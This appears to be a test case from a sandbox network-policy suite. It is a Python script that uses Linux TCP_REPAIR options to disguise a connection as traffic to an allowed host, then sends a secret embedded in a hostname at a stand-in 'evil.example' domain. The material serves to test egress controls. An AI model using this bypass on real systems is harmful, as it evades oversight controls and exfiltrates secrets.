# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a connection in TCP_REPAIR keeps an allowed greeting to itself, and then sends anything
# proof: word
# needs: resolver
import socket
import time

from attack import SECRET, attempt, greeting, patience

REPAIR, REPAIR_QUEUE, RECEIVED, OFF = 19, 20, 1, -1


@attempt
def send():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.66.66.67", 443))
    listener.listen(4)
    out = socket.socket()
    out.connect(
        socket.getaddrinfo("api.allowed.example", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    )
    peer = listener.accept()[0]
    peer.settimeout(patience(2))
    allowed = greeting("api.allowed.example")
    out.setsockopt(socket.IPPROTO_TCP, REPAIR, 1)
    out.setsockopt(socket.IPPROTO_TCP, REPAIR_QUEUE, RECEIVED)
    out.send(allowed)
    out.setsockopt(socket.IPPROTO_TCP, REPAIR, OFF)
    # What the peer sends is taken for what is there already.
    peer.sendall(bytes(len(allowed)))
    time.sleep(0.3)
    out.send(greeting(SECRET + ".evil.example"))
    return peer.recv(65536)
